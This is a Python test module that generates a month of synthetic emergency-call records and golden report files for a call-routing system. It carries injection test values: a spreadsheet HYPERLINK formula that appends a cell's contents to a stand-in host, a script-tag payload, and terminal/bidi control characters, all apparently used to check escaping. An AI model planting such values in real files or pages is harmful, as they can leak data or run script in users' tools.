"""A small month with one call of each kind, and the report of it.

``python -m tests.unit.ops.report.november`` writes the golden files anew: look at what changed.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final
from zoneinfo import ZoneInfo

from ops.report import national, page
from router.calls.gaps import Recovery, Why
from router.calls.record import (
    ERASED,
    CallRecord,
    Outcome,
    Reason,
    Recording,
    Source,
    Step,
    StepResult,
)
from router.report import Beside, Collected, Tally, month, sheets
from router.report.call import facts
from router.report.planned import Planner
from router.report.repeats import Repeats
from router.report.report import Report
from router.report.responses import Responses
from router.store import GapTotals
from router.store.incident_times import Timed
from router.store.messages import Asked
from siaga import places
from siaga.keys import CallClass
from siaga.plan import parse_plan
from siaga.plan.past import PlansOfCalls
from siaga.settings import KUTIM, PROJECT

GOLDEN: Final = Path(__file__).parent / "golden"
TEXT: Final = (
    (PROJECT / "plans" / "kutim.yaml").read_text(encoding="utf-8")
    + """
trunks:
  telkom: {from: [10.1.2.3], area: sangatta-utara}
  indosat: {from: ["fd00::7"]}
"""
)
PLAN: Final = parse_plan(TEXT.encode())
ZONE: Final = ZoneInfo("Asia/Makassar")
MADE: Final = datetime(2026, 12, 1, 0, 5, tzinfo=UTC)

FORMULA: Final = '=HYPERLINK("http://x.example/"&A1)'
MARKUP: Final = "<script>alert(1)</script>"
TURNED: Final = "\u202eterbalik\x1b[2J"
CALLERS: Final = (
    "08129990001",
    "+628129990001",
    "08129990003",
    "08129990004",
    "08129990005",
    "08129990006",
    "08129990007",
    "08129990008",
)

GIVEN: Final = {
    CALLERS[0]: CallClass.EMERGENCY,
    CALLERS[2]: CallClass.PRANK,
    CALLERS[3]: CallClass.GHOST,
}


ASKED: Final = (
    Asked("damkar", 0, 410, 1),
    Asked("damkar", 0, None, 1),
    Asked(MARKUP, 0, 1200, 1),
)


TOLD_OF: Final = {
    CALLERS[0]: "64.08.04",
    CALLERS[1]: "64.08.04",
    CALLERS[2]: "",
    CALLERS[4]: FORMULA,
}
"""The districts of the incidents that calls tell of."""


def _timed(emergency: str, district: str | None, *minutes: float | None) -> Timed:
    """An incident of a morning, its times so many minutes after the first."""
    began = datetime(2026, 11, 5, 1, tzinfo=UTC)
    at = [None if each is None else began + timedelta(minutes=each) for each in minutes]
    return Timed(began, emergency, district, *at)


INCIDENTS: Final = (
    _timed("fire", "64.08.04", 0, 0.2, 1, 2, 15),
    _timed("fire", "64.08.04", 10, 10.1, 12, 12, 25.5),
    _timed("fire", None, 20, None, 21, None, None),
    _timed(MARKUP, FORMULA, 30, 30.5, None, None, None),
)


def _call(day: int, hour: int, second: float = 0, **fields: Any) -> CallRecord:
    began = datetime(2026, 11, day, hour, tzinfo=ZONE).astimezone(UTC)
    began += timedelta(seconds=second)
    made = CallRecord(
        id=f"{day:02}{hour:02}{second}",
        node="node1",
        caller="anonymous",
        began=began,
        tier=1,
        plan_version=PLAN.version,
        recording=Recording(f"2026/11/{day:02}/x.wav"),
        address="10.1.2.3",
    )
    return replace(made, **fields)


def _answered(call: CallRecord, wait: float, agency: str, handset: str, **more: Any) -> CallRecord:
    answered = call.began + timedelta(seconds=wait)
    rung = call.began + timedelta(seconds=4)
    fields: dict[str, Any] = {
        "language": "id",
        "emergency": "fire",
        "choice": "digit",
        "steps": (Step(agency, "queue", rung, answered, StepResult.ANSWERED),),
        "answered_by": agency,
        "handset": handset,
        "answered": answered,
        "ended": answered + timedelta(seconds=30),
        "outcome": Outcome.ANSWERED,
        "reason": Reason.CALLER_HUNG_UP,
        **more,
    }
    return replace(call, **fields)


def _left(call: CallRecord, after: float, outcome: Outcome, **more: Any) -> CallRecord:
    return replace(call, ended=call.began + timedelta(seconds=after), outcome=outcome, **more)


def calls() -> list[CallRecord]:
    """The calls, oldest first."""
    one, again, three, four, five, six, seven, eight = CALLERS
    outside = Step("rsud", "pstn", MADE, MADE, StepResult.ANSWERED)
    made = [
        _answered(_call(1, 0, caller=one), 8, "damkar", "201"),
        _answered(_call(1, 0, 300, caller=again), 14.95, "damkar", "202"),
        _answered(_call(2, 9, caller=three), 31, "kominfo", "101", tier=2),
        _answered(
            _call(2, 9, 1, caller=four, address="fd00::7"),
            18,
            "rsud",
            eight,
            emergency="medical",
            steps=(outside,),
        ),
        _answered(_call(3, 23, caller=five), 9, "damkar", "201", outcome=Outcome.TRANSFERRED),
        _left(_call(4, 3, address="10.9.9.9"), 4, Outcome.ABANDONED_MENU),
        _left(_call(4, 3, 1, caller=six), 12, Outcome.ABANDONED_MENU, source=Source.BACKFILL),
        _left(
            _call(5, 17, caller=ERASED),
            40,
            Outcome.ABANDONED_RINGING,
            emergency="operator",
            choice="no_input",
        ),
        _left(
            _call(6, 12, caller=seven, address=None),
            0.02,
            Outcome.REFUSED,
            tier=None,
            recording=None,
        ),
        _left(_call(7, 12), 5, Outcome.LOST),
        _answered(_call(8, 6), 7, MARKUP, "201", emergency=FORMULA, choice=TURNED),
        _answered(_call(8, 7), 7, TURNED, "x", emergency=MARKUP, choice=FORMULA),
        _call(30, 23, 3599.999999),
    ]
    return sorted(made, key=lambda call: call.began)


def report() -> Report:
    """The report of that month, as it is made in the night after it."""
    tally, repeats = Tally(), Repeats()
    regency = places.load(KUTIM)
    planned = Planner(PlansOfCalls(PROJECT / "nowhere.yaml", PLAN), regency).of
    for call in calls():
        given, incident = GIVEN.get(call.caller), TOLD_OF.get(call.caller)
        officer = "7101" if call.handset == "101" else None
        beside = Beside(planned(call), incident, repeats.see(call), given, officer)
        tally.add(facts(call, ZONE, beside))
    tally.tests = 1234
    gaps = GapTotals({Why.START: 1, Why.UNHEARD: 2}, 2, {Recovery.FILE: 3, Recovery.UNHARMED: 1})
    responses = Responses.of(ASKED, INCIDENTS)
    found = Collected(tally, gaps, dict(sorted(responses.accepted.items())), responses.helped)
    return Report(PLAN.plan, month("2026-11", ZONE), found, MADE, regency)


def files() -> dict[str, str]:
    """All files of it by name, of the national file both formats."""
    made = report()
    return {
        **sheets.files(made),
        "report.html": page.as_html(made),
        **{f"national.{name}": form(made) for name, form in national.FORMATS.items()},
    }


if __name__ == "__main__":
    for name, text in files().items():
        (GOLDEN / name).write_text(text, encoding="utf-8", newline="")
